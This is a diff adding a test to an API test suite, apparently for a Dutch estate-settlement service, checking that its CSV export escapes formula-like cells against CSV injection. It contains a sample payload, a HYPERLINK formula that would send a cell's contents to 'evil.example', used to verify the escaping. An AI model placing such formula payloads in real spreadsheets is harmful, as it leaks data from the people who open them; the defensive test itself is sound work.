@@ -222,6 +222,22 @@ describe('provider desk API', () => {
     expect(line).toMatch(/Incasso Noord, kenmerk IN-889, €\s75,50/);
   });
 
+  it('writes no cell of the export that a spreadsheet would run as a formula (OWASP CSV Injection)', async () => {
+    const estate = await createEstate(anna, { givenNames: 'Elif', surnamePrefix: undefined, surname: 'Yilmaz', gender: 'female' });
+    await anna.post(`${API}/estates/${estate.id}/documents`).field('kind', 'death_certificate').attach('file', TINY_PDF, 'akte.pdf').expect(201);
+    const contract = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: kpn.id, description: '+31 mobiel', accountNumber: 'KPN-F1', action: 'cancel' }).expect(201)).body;
+    await anna.post(`${API}/contracts/${contract.id}/request`).expect(200);
+    await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path: { id: contract.id }, body: { effectiveDate: '2026-11-30', reference: 'KPN-F1' } }).expect(200);
+    const agency = '=HYPERLINK("https://evil.example/?x="&A2;"Intrum")';
+    await anna.post(`${API}/contracts/${contract.id}/collection-notice`, { agency, reference: 'INT-1', amount: 20 }).expect(200);
+    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-01-01', to: t.clock.today() } }).expect(200);
+    const line = csv.text.split('\r\n').find((l) => l.includes(contract.id)) ?? '';
+    // Each cell that would start with = or + starts with ' instead: Excel and LibreOffice show it as text.
+    expect(line).toContain(`;'+31 mobiel;`);
+    expect(line).toContain(`;"'=HYPERLINK(""https://evil.example/?x=""&A2;""Intrum""), kenmerk INT-1, €\u00a020,00"`);
+    expect(line.split(';').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);
+  });
+
   it('takes no credit note or rejection on a collection of a bill nobody disputed: it ends by its stop or the bill withdrawn', async () => {
     const { kpnContract } = await estateWithRequests();
     const path = { id: kpnContract.id };
